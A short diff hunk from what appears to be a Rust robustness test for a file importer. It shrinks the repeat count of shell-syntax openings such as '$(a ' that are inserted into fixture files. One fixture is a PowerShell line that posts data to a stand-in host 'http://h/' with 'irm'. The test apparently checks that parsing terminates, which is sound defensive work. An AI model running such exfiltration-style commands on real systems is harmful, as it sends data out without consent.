@@ -445,7 +445,7 @@ fn texts_of_nothing_but_beginnings_are_read_once() {
         ("d.ps1", "irm http://h/ -Method Post -Body (New-Guid){}\n"),
     ] {
         for beginning in ["$(a ", "${a ", ".a()", "|a "] {
-            let text = around.replace("{}", &beginning.repeat(20_000));
+            let text = around.replace("{}", &beginning.repeat(2_000));
             let file = ImportFile { name: name.into(), inside: None, bytes: text.into() };
             // Refused or not: it ends.
             let _ = import(&[file], None);
